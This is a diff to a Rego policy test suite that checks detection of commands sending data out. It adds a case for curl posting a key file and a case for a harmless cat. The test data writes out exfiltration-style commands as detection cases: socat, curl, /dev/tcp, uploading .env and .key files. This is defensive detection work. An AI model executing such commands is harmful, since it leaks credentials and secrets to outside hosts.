@@ -150,6 +150,7 @@ test_finds_what_is_sent_beside_the_key if {
 test_finds_what_the_shell_sends if {
 	_found([_shown[2], _command(["/dev/tcp", "/dev/tcp/h/1", "--sends"], ["/dev/tcp/h/1"], ["--sends"])]) == {"/dev/tcp"}
 	_found([_shown[2], _command(["/dev/tcp", "/dev/tcp/h/1", "--gives"], ["/dev/tcp/h/1"], ["--gives"])]) == set()
+	_found([_shown[2], _command(["cat", "--sends"], [], ["--sends"])]) == set()
 }
 
 test_finds_a_folder_that_leaves if {
@@ -189,6 +190,7 @@ test_finds_a_secret_in_quotes_and_beside_options if {
 	_found([_command(["socat", "OPEN:\"a.key\",rdonly", "TCP:h:1"], [], [])]) == {"socat"}
 	_found([_command(["socat", "OPEN:a.k\\ey", "TCP:h:1"], [], [])]) == {"socat"}
 	_found([_command(["socat", "OPEN:'a.key',rdonly", "TCP:h:1"], [], [])]) == {"socat"}
+	_found([_command(["curl", "-d", "\"tests/\\a.key\"", "x"], ["x"], ["-d"])]) == {"curl"}
 	_found([_command(["nc", "OPEN:\"a.key\",rdonly", "h"], [], [])]) == set()
 	_found([_command(["curl", "-F", "f=@.env;type=a", "x"], ["x"], ["-F"])]) == {"curl"}
 }
